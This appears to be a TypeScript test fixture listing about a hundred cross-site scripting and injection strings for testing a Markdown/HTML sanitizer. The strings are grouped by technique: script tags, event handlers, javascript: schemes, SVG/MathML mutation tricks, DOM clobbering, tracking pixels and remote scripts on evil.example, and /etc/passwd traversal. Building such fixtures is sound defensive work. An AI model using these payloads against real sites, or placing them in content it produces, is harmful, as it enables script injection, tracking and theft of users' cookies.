/** Texts that try to be more than text, class by class. Written for what they try, not for what any one parser lets through. */

export interface Hostile {
  readonly kind: string;
  readonly text: string;
}

const of = (kind: string, ...texts: readonly string[]): readonly Hostile[] =>
  texts.map((text) => ({ kind, text }));

const SCRIPTS = of(
  'script',
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script/x>alert(1)</script >',
  '<<script>alert(1)//<</script>',
  '<script>\n\nalert(1)\n\n</script>',
  '<noscript><p title="</noscript><script>alert(1)</script>">',
  '<template><script>alert(1)</script></template>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src=//evil.example/x.swf>',
);

const HANDLERS = of(
  'handler',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)//',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<a onmouseover="alert(1)" href="#">x</a>',
  '<p style="animation-name:x" onanimationstart=alert(1)>x',
  '<marquee onstart=alert(1)>x</marquee>',
);

const SCHEMES = of(
  'scheme',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](&#106&#97;vascript&colon;alert(1))',
  '[x](java&NewLine;script:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](javascript://evil.example/%0aalert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:image/svg+xml,<svg onload=alert(1)>)',
  '<javascript:alert(1)>',
  '<a href=" javascript:alert(1)">x</a>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">x</button></form>',
);

const FOREIGN = of(
  'foreign content',
  '<svg onload=alert(1)>',
  '<svg><script>alert&#40;1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
);

const CLOBBERS = of(
  'clobbering',
  '<form id=x tabindex=0><input name=attributes></form>',
  '<a id=defaultView><a id=defaultView name=x href="cid:&quot;onerror=alert(1)//">',
  '<img name=getElementById><img id=cookie>',
  '<form name=body></form><output id=forms>x</output>',
  '# getElementById\n\n# cookie\n\n## __proto__\n\n## constructor',
  '<h2 id=document>x</h2><h2 name=location>y</h2>',
);

const PICTURES = of(
  'tracking picture',
  '![x](https://evil.example/pixel.gif)',
  '![x](//evil.example/pixel.gif)',
  '![x][p]\n\n[p]: http://evil.example/p.png',
  '<img src=https://evil.example/p.png>',
  '![x](data:image/png;base64,iVBORw0KGgo=)',
  '<p style="background:url(https://evil.example/p)">x</p>',
  '<style>@import "//evil.example/x.css"</style><link rel=stylesheet href=//evil.example/x.css>',
);

const MARKDOWN = of(
  'Markdown itself',
  '[x](https://a.example/"onmouseover="alert(1))',
  '[x](<https://a.example/" onmouseover="alert(1)>)',
  '[x](https://a.example/ "title\\" onclick=alert(1)")',
  '![alt" onerror="alert(1)](x.png)',
  '![<script>alert(1)</script>](x.png "<script>")',
  '```"><script>alert(1)</script>\nx\n```',
  '``` x" onclick="alert(1)\nx\n```',
  '`</code><script>alert(1)</script>`',
  '[a]: javascript:alert(1)\n\n[a]',
  '[a]: <java\nscript:alert(1)>\n\n[a][a]',
  '| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |',
);

/** What the comment system Isso let through (CVE-2026-27469): a single quote ended the attribute. */
const QUOTES = of(
  'quote in an attribute',
  "[x](https://evil.example/'onmouseover='alert(1))",
  "https://evil.example/'onmouseover='alert(document.cookie)",
  "<https://evil.example/'onfocus='alert(1)'autofocus='>",
  '<https://evil.example/%22onfocus=%22alert(1)>',
);

/** 70 in all so far, over the classes of the research; these are more of our own. */
const MORE = of(
  'more',
  '</main></article></body><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<!--comments--><b>in</b><!--/comments-->',
  '--><img src=x onerror=alert(1)>',
  ']]><script>alert(1)</script>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '</title></textarea></style></noscript></script><script>alert(1)</script>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<isindex action=javascript:alert(1)>',
  '<portal src=https://evil.example/></portal><fencedframe></fencedframe>',
  '<a href="https://a.example/" target=_blank rel=opener>x</a>',
  '[x](https://bank.example@evil.example/)',
  '[x](https:\\\\evil.example)',
  '[x](//evil.example/)',
  '[x](/\\evil.example/)',
  '[x](../../../../etc/passwd)',
  '[x](%2e%2e/%2e%2e/secret)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://a.example/1)',
  '[x](intent://evil.example#Intent;scheme=http;end)',
  '[x](https://a.example/\u202egnp.exe)',
  '\u202eevil\u202c and \u2066hidden\u2069',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '\ud800<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '- <details>\n  - <script>\n    alert(1)\n',
  '> <plaintext>\n> <xmp><listing>',
);

export const HOSTILE: readonly Hostile[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...SCHEMES,
  ...FOREIGN,
  ...CLOBBERS,
  ...PICTURES,
  ...MARKDOWN,
  ...QUOTES,
  ...MORE,
];
